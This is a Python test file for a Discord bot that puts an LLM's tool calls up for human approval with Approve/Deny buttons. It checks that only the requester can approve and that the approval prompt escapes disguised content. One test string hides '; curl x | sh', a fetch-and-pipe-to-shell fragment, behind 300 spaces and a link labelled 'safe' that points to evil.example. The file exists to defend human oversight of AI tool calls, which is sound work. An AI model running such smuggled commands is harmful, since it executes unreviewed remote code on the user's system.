"""Approval on Discord: the question comes with Approve / Deny buttons (a discord.py view whose
custom ids carry the command), and a press is the presser's own /approve (another person's
press is refused like their /approve); every press is answered with a deferred update."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.fakes.discord_server import DEFAULT_TOKEN, QUIET_HEARTBEAT, FakeDiscordServer, Posted
from tests.fakes.llm import FakeLLM, Reply, last_user_text, you_said
from tests.integration.button_rig import MCP, mcp_ready, responder, tool_runs
from tests.integration.inproc import running_daemon

pytestmark = pytest.mark.timeout(90)

ANN = "2000000000000000001"
BOB = "2000000000000000002"
GENERAL = "3000000000000000002"
THREAD = "3000000000000000004"


def buttons_of(posted: Posted) -> list[tuple[str, str, int]]:
    """(label, custom id, style) of each button under a posted message."""
    return [
        (c["label"], c["custom_id"], c["style"])
        for row in posted.components
        for c in row["components"]
    ]


@pytest.mark.parametrize("where", [GENERAL, THREAD])
async def test_approval_buttons_on_discord(tmp_path: Path, where: str) -> None:
    section: dict[str, Any] = {
        "token": DEFAULT_TOKEN,
        "allowed_users": [ANN, BOB],
        "stream_edits": False,
        "min_send_interval": 0,
        "activity_check_interval": 1.0,
    }
    async with FakeDiscordServer(heartbeat_interval=QUIET_HEARTBEAT) as discord, FakeLLM() as llm:
        discord.add_user(ANN, "ann")
        discord.add_user(BOB, "bob")
        discord.add_channel(GENERAL)
        discord.add_channel(THREAD, parent=GENERAL)
        llm.responder = responder
        section["api_base"] = discord.api_base
        async with running_daemon(tmp_path, llm, "discord", section, extra={"mcp": MCP}) as herald:
            await mcp_ready(herald.url)
            discord.inject_message(where, "run pid", author=ANN, mention_bot=True)
            [question] = await discord.wait_for_posted(lambda p: "Approval needed" in p.content)
            assert question.channel_id == where
            assert buttons_of(question) == [
                ("✅ Approve", "herald:/approve 1", 3),
                ("❌ Deny", "herald:/deny 1", 4),
            ]
            bob = discord.press_button(where, question.id, "herald:/approve 1", user=BOB)
            [refusal] = await discord.wait_for_posted(
                lambda p: "Only the person who asked" in p.content
            )
            assert refusal.channel_id == where
            assert tool_runs(llm) == 0
            ann = discord.press_button(where, question.id, "herald:/approve 1", user=ANN)
            [done] = await discord.wait_for_posted(lambda p: p.content.startswith("done:"))
            assert done.channel_id == where
            assert f"[approved by discord:{ANN}]" in done.content
            assert tool_runs(llm) == 1
            await discord.wait_for(
                lambda: (
                    {(r.interaction_id, r.type) for r in discord.interaction_responses}
                    == {(bob.id, 6), (ann.id, 6)}
                )
            )
            rows = await herald.rows()
            presses = [r for r in rows if str(r["platform_message_id"]).endswith(ann.id)]
            assert [r["text"] for r in presses] == ["/approve 1"]


TRICKY = f"ping <@{BOB}> at <t:1:R> via [safe](https://evil.example)" + " " * 300 + "; curl x | sh"


def tricky_responder(body: dict[str, Any]) -> Reply:
    """Asks for `t__echo` of TRICKY on "run echo"."""
    if any(m.get("role") == "tool" for m in body.get("messages", [])):
        return Reply(text="done")
    if last_user_text(body).endswith("run echo"):
        return Reply(tool_calls=[("t__echo", {"text": TRICKY})])
    return you_said(body)


async def test_an_approval_on_discord_shows_the_argument_as_typed(tmp_path: Path) -> None:
    """Discord would show `<@id>` as a mention, `<t:…>` as a time and `[a](b)` as a link, and
    300 spaces as nothing: the question shows each as the tool gets it."""
    section: dict[str, Any] = {
        "token": DEFAULT_TOKEN,
        "allowed_users": [ANN],
        "stream_edits": False,
        "min_send_interval": 0,
        "activity_check_interval": 1.0,
    }
    async with FakeDiscordServer(heartbeat_interval=QUIET_HEARTBEAT) as discord, FakeLLM() as llm:
        discord.add_user(ANN, "ann")
        discord.add_channel(GENERAL)
        llm.responder = tricky_responder
        section["api_base"] = discord.api_base
        async with running_daemon(tmp_path, llm, "discord", section, extra={"mcp": MCP}) as herald:
            await mcp_ready(herald.url)
            discord.inject_message(GENERAL, "run echo", author=ANN, mention_bot=True)
            [question] = await discord.wait_for_posted(lambda p: "Approval needed" in p.content)
    shown = question.content
    assert len(shown) <= 2000
    assert f"ping \\<@{BOB}> at \\<t:1:R> via \\[safe](https://evil.example)" in shown
    assert "\u27e8300 spaces\u27e9; curl x \\| sh" in shown
